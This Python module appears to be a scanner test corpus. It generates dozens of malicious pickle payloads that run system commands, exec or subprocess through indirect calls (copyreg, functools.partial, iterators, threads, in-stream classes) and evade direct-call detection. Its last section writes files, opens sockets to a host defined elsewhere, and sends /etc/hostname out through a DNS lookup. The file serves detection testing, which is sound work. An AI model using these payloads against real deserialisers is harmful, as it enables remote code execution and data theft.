"""Calls that no opcode makes: by functions that call, by iterating, by classes made in the stream; and files written in steps."""

from . import asm, gadgets
from .asm import MARK, POP, REDUCE, Raw, call, glob, push, put, text, tuple_of
from .gadgets import CMD, CODE, FILE, SYSTEM


def copyreg():
    yield "newobj", call("copyreg:__newobj__", glob("subprocess:Popen"), ["echo", "m"]), "?subprocess.Popen"
    built = call("copyreg:_reconstructor", glob("argparse:Namespace"), glob("builtins:object"), None)
    yield "reconstructor-setstate", Raw(
        built + asm.EMPTY_DICT + text("__setstate__") + SYSTEM + asm.SETITEM + asm.BUILD + push(CMD) + asm.BUILD
    ), "posix.system"
    yield "copy-reconstruct", call("copy:_reconstruct", None, None, SYSTEM, (CMD,)), "posix.system"
    reduced = Raw(_namespace_with("__reduce_ex__", call("functools:partial", glob("builtins:eval"), CODE)))
    yield "dispatch", Raw(call("copyreg:pickle", glob("builtins:complex"), SYSTEM) + POP + reduced), "?copyreg.pickle"
    mapped = Raw(glob("builtins:map") + tuple_of(SYSTEM, [CMD]) + asm.NEWOBJ)
    yield "newobj-map", call("copyreg:__newobj__", glob("builtins:tuple"), mapped), "posix.system"
    yield "newobj_ex-map", call("copyreg:__newobj_ex__", glob("builtins:tuple"), (mapped,), {}), "posix.system"


def _namespace_with(name, value):
    return call("types:SimpleNamespace") + asm.EMPTY_DICT + text(name) + value + asm.SETITEM + asm.BUILD


def operators():
    yield "call", call("operator:call", SYSTEM, CMD), "posix.system"
    yield "methodcaller-call", call(call("operator:methodcaller", "__call__", CMD), SYSTEM), "posix.system"
    yield "reduce-partial", call("functools:reduce", call("functools:partial", glob("builtins:exec")), [{}], CODE), "builtins.exec"
    yield "attrgetter-call", call(call(call("operator:attrgetter", "__call__"), SYSTEM), CMD), "posix.system"
    yield "partial-keywords", Raw(
        glob("functools:partial") + asm.tuple_of(SYSTEM) + push({"command": CMD}) + asm.NEWOBJ_EX + asm.EMPTY_TUPLE + REDUCE
    ), "posix.system"
    partial = Raw(
        glob("functools:partial") + tuple_of(glob("builtins:print")) + asm.NEWOBJ + tuple_of(SYSTEM, (CMD,), {}, None) + asm.BUILD
    )
    yield "partial-setstate", Raw(partial + asm.EMPTY_TUPLE + REDUCE), "posix.system"
    nested = call("functools:partial", call("functools:partial", SYSTEM), CMD)
    yield "partial-nested", call(nested), "posix.system"
    yield "contextvars-run", call(call("operator:methodcaller", "run", SYSTEM, CMD), call("contextvars:Context")), "posix.system"
    yield "exitstack", call(call("operator:methodcaller", "close"), Raw(_exit_stack())), "posix.system"
    timer = call("threading:Timer", 0, SYSTEM, [CMD])
    yield "timer", call(call("operator:methodcaller", "start"), timer), "posix.system"
    thread = call("threading:Thread", None, SYSTEM, None, (CMD,))
    yield "thread", call(call("operator:methodcaller", "run"), thread), "posix.system"
    yield "thread-started", call(call("operator:methodcaller", "start"), thread), "posix.system"
    yield "mock", call(Raw(call("unittest.mock:Mock", None, SYSTEM)), CMD), "posix.system"
    yield "lru_cache", call(call(call("functools:lru_cache", 1), SYSTEM), CMD), "posix.system"
    yield "cmp_to_key", call("builtins:max", [CMD]), "?builtins.max"
    yield "sub", call("re:sub", "x", glob("builtins:breakpoint"), "x"), "builtins.breakpoint"
    yield "missing", call("operator:getitem", call("collections:defaultdict", call("functools:partial", SYSTEM, CMD)), "a"), "posix.system"
    yield "finalize", call("weakref:finalize", call("argparse:Namespace"), SYSTEM, CMD), "posix.system"


def _exit_stack():
    """An ExitStack that has a callback: the call's result is dropped, the stack fetched from the memo."""
    return (
        call("contextlib:ExitStack")
        + put(60)
        + POP
        + call(call("operator:methodcaller", "callback", SYSTEM, CMD), Raw(asm.get(60)))
        + POP
        + asm.get(60)
    )


def iterators():
    """Calls made by iterating: no opcode calls the function."""
    for lazy in (
        "builtins:map",
        "builtins:filter",
        "itertools:takewhile",
        "itertools:dropwhile",
        "itertools:filterfalse",
        "itertools:groupby",
    ):
        arguments = ([CMD], SYSTEM) if lazy.endswith("groupby") else (SYSTEM, [CMD])
        for eager in (
            "builtins:list",
            "builtins:tuple",
            "builtins:set",
            "builtins:sum",
            "builtins:any",
            "collections:deque",
            "builtins:dict",
        ):
            if eager in ("builtins:list", "collections:deque") or lazy == "builtins:map" and eager != "builtins:dict":
                yield f"{lazy}-{eager}", call(eager, call(lazy, *arguments)), "posix.system"
    yield "starmap", call("builtins:list", call("itertools:starmap", SYSTEM, [(CMD,)])), "posix.system"
    yield "accumulate", call("builtins:list", call("itertools:accumulate", [CODE, {}], glob("builtins:exec"))), "builtins.exec"
    yield "next", call("builtins:next", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "iter-sentinel", call("builtins:next", call("builtins:iter", call("functools:partial", SYSTEM, CMD), 1)), "posix.system"
    yield "bytes-NEWOBJ", Raw(glob("builtins:bytes") + TUPLE_OF_MAP + asm.NEWOBJ), "posix.system"
    yield "bytearray", call("builtins:bytearray", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "list-extend", Raw(
        asm.EMPTY_LIST
        + put(50)
        + POP
        + call(glob("builtins:list.extend", "STACK_GLOBAL"), Raw(asm.get(50)), call("builtins:map", SYSTEM, [CMD]))
    ), "posix.system"
    yield "dict-fromkeys", call(glob("builtins:dict.fromkeys", "STACK_GLOBAL"), call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "str-join", call(
        glob("builtins:str.join", "STACK_GLOBAL"), "", call("builtins:map", glob("subprocess:getoutput"), [CMD])
    ), "subprocess.getoutput"
    yield "OrderedDict", call("collections:OrderedDict", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "Counter", call("collections:Counter", call("builtins:map", SYSTEM, [CMD])), "posix.system"
    yield "sorted-key", call(_with_keywords("builtins:sorted", [CMD], key=SYSTEM)), "posix.system"
    yield "max-key", call(_with_keywords("builtins:max", [CMD], key=SYSTEM)), "posix.system"
    yield "numpy-vectorize", call(call("numpy:vectorize", SYSTEM), [CMD]), "posix.system"
    yield "numpy-frompyfunc", call(call("numpy:frompyfunc", SYSTEM, 1, 1), [CMD]), "posix.system"


def _with_keywords(function, *arguments, **keywords):
    """functools.partial made by NEWOBJ_EX, which alone passes keywords."""
    words = asm.EMPTY_DICT + b"".join(text(k) + push(v) + asm.SETITEM for k, v in keywords.items())
    return Raw(glob("functools:partial") + tuple_of(glob(function), *arguments) + words + asm.NEWOBJ_EX)


TUPLE_OF_MAP = tuple_of(call("builtins:map", SYSTEM, [CMD]))


def classes():
    """Classes made in the stream, whose methods opcodes call."""

    def made(base, **methods):
        members = asm.EMPTY_DICT + b"".join(text(k) + v + asm.SETITEM for k, v in methods.items())
        return call("builtins:type", "X", (glob(base),) if base else (), Raw(members))

    yield "append", Raw(call(made("collections:UserList", append=SYSTEM)) + push(CMD) + asm.APPEND), "posix.system"
    yield "setitem", Raw(call(made("", __setitem__=glob("builtins:exec"))) + push(CODE) + push({}) + asm.SETITEM), "builtins.exec"
    yield "setstate", Raw(call(made("", __setstate__=SYSTEM)) + push(CMD) + asm.BUILD), "posix.system"
    yield "init", call(made("", __init__=SYSTEM), CMD), "posix.system"
    static = call("builtins:staticmethod", SYSTEM)
    yield "add", Raw(call(made("", add=static)) + MARK + push(CMD) + asm.ADDITEMS), "posix.system"
    yield "property", call(call("operator:attrgetter", "x"), call(made("", x=call("builtins:property", SYSTEM)))), "?posix.system"
    yield "class-getitem", call("operator:getitem", made("", __class_getitem__=static), CMD), "posix.system"
    yield "init-subclass", call(
        "types:new_class", "Y", (made("", __init_subclass__=call("functools:partial", SYSTEM, CMD)),)
    ), "posix.system"
    yield "del", call(made("", __del__=call("functools:partial", SYSTEM, CMD))), "posix.system"
    yield "hash", Raw(
        asm.EMPTY_DICT + call(made("", __hash__=call("functools:partial", SYSTEM, CMD))) + push(1) + asm.SETITEM
    ), "posix.system"
    yield "namedtuple-defaults", call("collections:namedtuple", "N", ["a"]), "?collections.namedtuple"


def files():
    """Files written step by step, as the published chains do."""
    handle = call("builtins:open", FILE, "w")
    yield "open-write", call(call("operator:methodcaller", "write", "m"), handle), "builtins.open"
    yield "io-open-write", call(call("operator:methodcaller", "write", b"m"), call("_io:FileIO", FILE, "w")), "_io.FileIO"
    yield "path-write", call(call("operator:methodcaller", "write_text", "m"), call("pathlib:PosixPath", FILE)), "pathlib.PosixPath"
    yield "path-open", call(call("operator:methodcaller", "open", "w"), call("pathlib:Path", FILE)), "pathlib.Path"
    yield "logging", call(call("operator:methodcaller", "warning", "m"), call("logging:FileHandler", FILE)), "logging.FileHandler"
    request = call(call("operator:methodcaller", "request", "GET", "/"), call("http.client:HTTPConnection", gadgets.HOST, 9))
    yield "http-request", request, "http.client.HTTPConnection"
    yield "socket-connect", call(call("operator:methodcaller", "connect", (gadgets.HOST, 9)), call("socket:socket")), "socket.socket"
    read = call(call("operator:methodcaller", "read"), call("builtins:open", "/etc/hostname"))
    yield "read-and-send", call("socket:gethostbyname", read), "socket.gethostbyname"
